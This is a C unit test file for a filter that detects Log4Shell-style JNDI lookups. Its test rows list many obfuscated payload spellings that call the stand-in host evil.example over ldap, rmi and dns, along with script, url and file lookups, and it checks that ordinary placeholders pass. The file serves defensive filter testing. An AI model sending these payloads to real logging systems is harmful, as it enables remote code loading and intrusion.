/** Lookups of logging libraries in their disguises, and placeholders. */
#include "tests/unit/filter_alone.h"

static void blocks_lookups_however_they_are_spelled(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"spelling 0", PEN_STR("${jndi:ldap://evil.example/a}")},
        {"spelling 1", PEN_STR("${jndi:rmi://evil.example/a}")},
        {"spelling 2", PEN_STR("${jndi:dns://evil.example}")},
        {"spelling 3", PEN_STR("${JNDI:LDAP://evil.example/a}")},
        {"spelling 4", PEN_STR("${${lower:j}ndi:ldap://evil.example/a}")},
        {"spelling 5", PEN_STR("${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://evil.example}")},
        {"spelling 6", PEN_STR("${${upper:j}ndi:ldap://evil.example}")},
        {"spelling 7", PEN_STR("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example}")},
        {"spelling 8", PEN_STR("${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example}")},
        {"spelling 9", PEN_STR("${${env:X:-j}ndi:ldap://evil.example}")},
        {"spelling 10", PEN_STR("${j${k8s:k5:-ND}i:ldap://evil.example}")},
        {"spelling 11", PEN_STR("${jnd${upper:\304\261}:ldap://evil.example}")},
        {"spelling 12", PEN_STR("${${date:'j'}${date:'n'}${date:'d'}i:ldap://evil.example}")},
        {"spelling 13", PEN_STR("${jn${lower:d}i:l${lower:d}ap://evil.example}")},
        {"spelling 14", PEN_STR("${${lower:${lower:jndi}}:ldap://evil.example}")},
        {"spelling 15", PEN_STR("x${jndi:ldap://evil.example/a}y")},
        {"spelling 16", PEN_STR("${jndi:ldap://127.0.0.1#evil.example/a}")},
        {"spelling 17", PEN_STR("%24%7Bjndi:ldap://evil.example/a%7D")},
        {"spelling 18", PEN_STR("${jndi:${lower:l}dap://evil.example/${env:USER}}")},
        {"spelling 19", PEN_STR("${jndi:ldap://evil.example")},
        {"spelling 20", PEN_STR("${script:javascript:java.lang.Runtime.getRuntime()}")},
        {"spelling 21", PEN_STR("${dns:address|evil.example}")},
        {"spelling 22", PEN_STR("${url:UTF-8:http://evil.example}")},
        {"behind a lookup that gives nothing", PEN_STR("${${main:0}jndi:ldap://x}")},
        {"a blank", PEN_STR("${ jndi:ldap://x/a}")},
        {"a file", PEN_STR("${file:utf-8:/etc/x}")},
        {"a constant of Java", PEN_STR("${const:java.lang.Integer.MAX_VALUE}")},
    };
    filter_case_blocks(&it, "jndi", rows, PEN_COUNT_OF(rows));
}

static void finds_lookups_behind_whatever_is_long(void **state)
{
    (void)state;
    static char text[1 << 18];
    static const struct {
        const char *why;
        struct pen_str piece;
        size_t times;
        struct pen_str blanks; /* behind each */
        size_t width;
        struct pen_str lookup;
    } rows[] = {
        {"blanks", PEN_STR(""), 1, PEN_STR(" "), 100000, PEN_STR("${jndi:ldap://evil.example/a}")},
        {"line breaks", PEN_STR(""), 1, PEN_STR("\n"), 70000,
         PEN_STR("${${lower:j}ndi:ldap://evil.example/a}")},
        {"one that does not end, and blanks", PEN_STR("${"), 1, PEN_STR(" "), 5000,
         PEN_STR("${jndi:ldap://evil.example/a}")},
        {"many that do not end", PEN_STR("${"), 40, PEN_STR(" "), 5000,
         PEN_STR("${jndi:ldap://evil.example/a}")},
        {"many at once", PEN_STR("${"), 40, PEN_STR(""), 0,
         PEN_STR("${jndi:ldap://evil.example/a}")},
        {"a long variable", PEN_STR("${${env:"), 1, PEN_STR("A"), 2000,
         PEN_STR(":-j}ndi:ldap://evil.example/a}")},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        struct pen_buf buf = pen_buf_over(text, sizeof(text));
        for (size_t n = 0; n < rows[i].times; n++) {
            pen_buf_put(&buf, rows[i].piece);
            for (size_t k = 0; k < rows[i].width; k++) {
                pen_buf_put(&buf, rows[i].blanks);
            }
        }
        pen_buf_put(&buf, rows[i].lookup);
        assert_false(buf.full);
        const struct filter_row row = {rows[i].why, pen_buf_str(&buf)};
        filter_case_blocks(&it, "jndi", &row, 1);
    }
}

static void stays_silent_on_placeholders(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"placeholder 0", PEN_STR("${name}")},
        {"placeholder 1", PEN_STR("${HOME}")},
        {"placeholder 2", PEN_STR("${var:-default}")},
        {"placeholder 3", PEN_STR("${a:-b}")},
        {"placeholder 4", PEN_STR("${workspaceFolder}")},
        {"placeholder 7", PEN_STR("${{ github.event.head }}")},
        {"placeholder 8", PEN_STR("jndi is a Java API")},
        {"placeholder 9", PEN_STR("java:comp/env/jdbc/db")},
        {"placeholder 10", PEN_STR("ldap://directory.example/dc=example")},
        {"placeholder 11", PEN_STR("lower:case")},
        {"placeholder 12", PEN_STR("${date:yyyy-MM-dd}")},
        {"placeholder 13", PEN_STR("${project.version}")},
        {"placeholder 14", PEN_STR("cost: ${price}")},
        {"placeholder 15", PEN_STR("key: ${value}, other: ${other}")},
        {"placeholder 16", PEN_STR("${1:-x}")},
        {"placeholder 17", PEN_STR("$(jndi:x)")},
        {"placeholder 18", PEN_STR("$ {x:y}")},
        {"placeholder 19", PEN_STR("$100: a lot")},
        {"placeholder 20", PEN_STR("${foo:bar}")},
        {"placeholder 21", PEN_STR("a:${b}:c")},
        {"a property", PEN_STR("${myjndi:x}")},
        {"a file of a build", PEN_STR("${file.name}")},
    };
    filter_case_passes(&it, "jndi", rows, PEN_COUNT_OF(rows));
}

static void is_linear_where_it_could_be_quadratic(void **state)
{
    (void)state;
    static const struct pen_str pieces[] = {
        PEN_STR("${"),   PEN_STR("${a:"), PEN_STR("${${lower:a}"),
        PEN_STR("${a}"), PEN_STR("$"),    PEN_STR("${::-")};
    filter_case_endures(&it, pieces, PEN_COUNT_OF(pieces));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_lookups_however_they_are_spelled),
        cmocka_unit_test(finds_lookups_behind_whatever_is_long),
        cmocka_unit_test(stays_silent_on_placeholders),
        cmocka_unit_test(is_linear_where_it_could_be_quadratic),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
